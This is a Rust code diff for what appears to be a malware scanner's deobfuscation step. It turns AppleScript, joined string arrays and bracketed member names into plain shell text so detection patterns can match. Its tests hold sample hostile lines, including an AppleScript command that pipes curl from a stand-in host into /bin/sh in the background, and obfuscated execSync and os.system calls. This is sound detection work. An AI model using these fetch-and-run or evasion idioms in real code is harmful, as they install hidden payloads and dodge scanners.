@@ -7,8 +7,10 @@
 //! attackers use to hide a word from a pattern, never running anything. Every step is linear
 //! in the line, and a line's expansion is capped at [`MAX_EXPANDED`] bytes.
 
+use super::pattern::Pattern;
 use base64::Engine;
 use std::collections::HashMap;
+use std::sync::LazyLock;
 
 /// Longest expansion of one line; past it the rest is left as written.
 const MAX_EXPANDED: usize = 16 * 1024;
@@ -46,6 +48,8 @@ pub fn expand(line: &str, vars: &Vars) -> String {
     let line = substitute_vars(&line, vars);
     let line = command_substitutions(&line);
     let line = char_codes(&line);
+    let line = array_joins(&line);
+    let line = bracket_members(&line);
     let line = join_literals(&line);
     let line = unescape(&line);
     let mut out: String = line.chars().filter(|c| !matches!(c, '\'' | '"')).collect();
@@ -328,6 +332,153 @@ fn numbers_to_text<'a>(numbers: impl Iterator<Item = &'a str>) -> Option<String>
         .collect()
 }
 
+/// An AppleScript line as the shell reads what it runs: `set name to "a" & b` becomes the
+/// assignment `name=a${b}`, and `do shell script "curl " & url & " | sh"` the command
+/// `curl ${url} | sh`. AppleScript's `&` joins strings, where a shell would read it as
+/// "run in the background" and lose the pipeline. `None` for any other line.
+pub(crate) fn applescript_as_shell(line: &str) -> Option<String> {
+    let code = line.trim_start();
+    if let Some(at) = code.find("do shell script ") {
+        return Some(applescript_string(&code[at + "do shell script ".len()..]));
+    }
+    if let Some(rest) = code.strip_prefix("set ") {
+        let (name, value) = rest.split_once(" to ")?;
+        let name = name.trim();
+        let is_name = !name.is_empty()
+            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+            && !name.as_bytes()[0].is_ascii_digit();
+        return is_name.then(|| format!("{name}={}", applescript_string(value)));
+    }
+    None
+}
+
+/// The text an AppleScript string expression makes: literals joined by `&`, names written
+/// as shell expansions, `quoted form of x` as `'${x}'`.
+fn applescript_string(expression: &str) -> String {
+    let mut out = String::new();
+    let mut rest = expression.trim();
+    while !rest.is_empty() {
+        let (part, after) = if let Some(body) = rest.strip_prefix('"') {
+            let end = closing_quote(body);
+            out.push_str(&body[..end].replace("\\\"", "\"").replace("\\\\", "\\"));
+            ("", body.get(end + 1..).unwrap_or(""))
+        } else {
+            rest.split_once('&').unwrap_or((rest, ""))
+        };
+        let part = part.trim();
+        if let Some(value) = part.strip_prefix("quoted form of ") {
+            let name = value.trim().trim_start_matches('(');
+            let name = name.split([' ', ')']).next().unwrap_or(name);
+            out.push_str(&format!("'${{{name}}}'"));
+        } else if !part.is_empty() && part.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
+            out.push_str(&format!("${{{part}}}"));
+        } else {
+            out.push_str(part);
+        }
+        rest = after.trim_start();
+        rest = rest.strip_prefix('&').unwrap_or(rest).trim_start();
+    }
+    out
+}
+
+/// Where the string literal that `body` continues ends: the first `"` no backslash escapes.
+fn closing_quote(body: &str) -> usize {
+    let bytes = body.as_bytes();
+    let mut i = 0;
+    while i < bytes.len() {
+        match bytes[i] {
+            b'\\' => i += 2,
+            b'"' => return i,
+            _ => i += 1,
+        }
+    }
+    body.len()
+}
+
+/// A list of literals joined into one: `['child', 'process'].join('_')`, `"".join(["cu", "rl"])`.
+static ARRAY_JOIN: LazyLock<Pattern> = LazyLock::new(|| {
+    const ITEMS: &str = r#"((?:'[^'\n]*'|"[^"\n]*")(?:[[:space:]]*,[[:space:]]*(?:'[^'\n]*'|"[^"\n]*"))*)[[:space:]]*,?"#;
+    const SEP: &str = r#"(?:'([^'\n]*)'|"([^"\n]*)")"#;
+    Pattern::new(&format!(
+        r"\[[[:space:]]*{ITEMS}[[:space:]]*\][[:space:]]*\.join\([[:space:]]*{SEP}[[:space:]]*\)|{SEP}[[:space:]]*\.join\([[:space:]]*\[[[:space:]]*{ITEMS}[[:space:]]*\][[:space:]]*\)"
+    ))
+    .expect("a valid join pattern")
+});
+
+/// One literal of an [`ARRAY_JOIN`] list.
+static LITERAL: LazyLock<Pattern> =
+    LazyLock::new(|| Pattern::new(r#"'([^'\n]*)'|"([^"\n]*)""#).expect("a valid literal pattern"));
+
+/// Lists of literals joined (JavaScript's `[…].join(sep)`, Python's `sep.join([…])`) written
+/// as the one literal they make.
+fn array_joins(line: &str) -> String {
+    if !line.contains(".join(") {
+        return line.to_owned();
+    }
+    let mut out = String::with_capacity(line.len());
+    let mut copied = 0;
+    for caps in ARRAY_JOIN.captures_iter(line) {
+        let (Some(whole), Some(items)) = (caps.get(0), caps.get(1).or_else(|| caps.get(6))) else {
+            continue;
+        };
+        let sep = [2, 3, 4, 5]
+            .into_iter()
+            .find_map(|g| caps.get(g))
+            .map_or("", |m| m.as_str());
+        let parts: Vec<&str> = LITERAL
+            .captures_iter(items.as_str())
+            .filter_map(|c| c.get(1).or_else(|| c.get(2)).map(|m| m.as_str()))
+            .collect();
+        out.push_str(&line[copied..whole.start()]);
+        out.push('"');
+        out.push_str(&parts.join(sep));
+        out.push('"');
+        copied = whole.end();
+    }
+    out.push_str(&line[copied..]);
+    out
+}
+
+/// A member named by a literal in brackets (`cp['execSync'](…)`, `os["system"]`).
+static BRACKET_MEMBER: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(
+        r#"\[[[:space:]]*(?:'([A-Za-z_$][[:word:]$]*)'|"([A-Za-z_$][[:word:]$]*)")[[:space:]]*\]"#,
+    )
+    .expect("a valid member pattern")
+});
+
+/// Members named in brackets written with a dot, as a call through them reads.
+fn bracket_members(line: &str) -> String {
+    if !line.contains('[') {
+        return line.to_owned();
+    }
+    let mut out = String::with_capacity(line.len());
+    let mut copied = 0;
+    for caps in BRACKET_MEMBER.captures_iter(line) {
+        let (Some(whole), Some(name)) = (caps.get(0), caps.get(1).or_else(|| caps.get(2))) else {
+            continue;
+        };
+        // `x = ['a']` is a list, not a member: a member follows a name or a closing bracket.
+        let before = line[..whole.start()].chars().next_back();
+        if !before.is_some_and(|c| c.is_alphanumeric() || matches!(c, '_' | '$' | ')' | ']')) {
+            continue;
+        }
+        out.push_str(&line[copied..whole.start()]);
+        out.push('.');
+        out.push_str(name.as_str());
+        copied = whole.end();
+    }
+    out.push_str(&line[copied..]);
+    out
+}
+
+/// Compiles the patterns of this file now (see [`super::preload`]).
+pub(super) fn compile() {
+    for pattern in [&ARRAY_JOIN, &LITERAL, &BRACKET_MEMBER] {
+        LazyLock::force(pattern);
+    }
+}
+
 /// `"cu" + "rl"`, `'cu' . 'rl'` (Perl, PHP) and `'cu'+'rl'` joined into one literal: a
 /// closing quote, the operator and the next opening quote are dropped.
 fn join_literals(line: &str) -> String {
@@ -456,6 +607,43 @@ mod tests {
         assert_eq!(plain("String.fromCharCode(99,117,114,108)"), "curl");
         assert_eq!(plain("chr(99)+chr(117)+chr(114)+chr(108)"), "curl");
         assert_eq!(plain("curl${IFS}-s${IFS}x"), "curl -s x");
+        assert_eq!(
+            plain("require(['child', 'process'].join('_'))"),
+            "require(child_process)"
+        );
+        assert_eq!(plain("cp[['exec', 'Sync'].join('')](x)"), "cp.execSync(x)");
+        assert_eq!(
+            plain("os.__dict__[''.join(['sys', 'tem'])](c)"),
+            "os.__dict__.system(c)"
+        );
+        assert_eq!(plain("pick(['a', 'b'])"), "pick([a, b])");
+    }
+
+    #[test]
+    fn applescript_reads_as_the_shell_command_it_runs() {
+        assert_eq!(
+            applescript_as_shell(r#"	set p1 to "https://" & "dock-lay" & "outs.example""#),
+            Some("p1=https://dock-layouts.example".to_owned())
+        );
+        assert_eq!(
+            applescript_as_shell(
+                r#"do shell script "/usr/bin/curl -fsSL " & p1 & p2 & " | /bin/sh >/dev/null 2>&1 &""#
+            ),
+            Some("/usr/bin/curl -fsSL ${p1}${p2} | /bin/sh >/dev/null 2>&1 &".to_owned())
+        );
+        assert_eq!(
+            applescript_as_shell(r#"do shell script "test -e " & quoted form of (a as text)"#),
+            Some("test -e '${a}'".to_owned())
+        );
+        assert_eq!(
+            applescript_as_shell(r#"set x to paragraphs of (do shell script "ls \"a b\"")"#),
+            Some("ls \"a b\")".to_owned())
+        );
+        assert_eq!(
+            applescript_as_shell("set n to count of argv"),
+            Some("n=count of argv".to_owned())
+        );
+        assert_eq!(applescript_as_shell("if mode is \"x\" then"), None);
     }
 
     #[test]
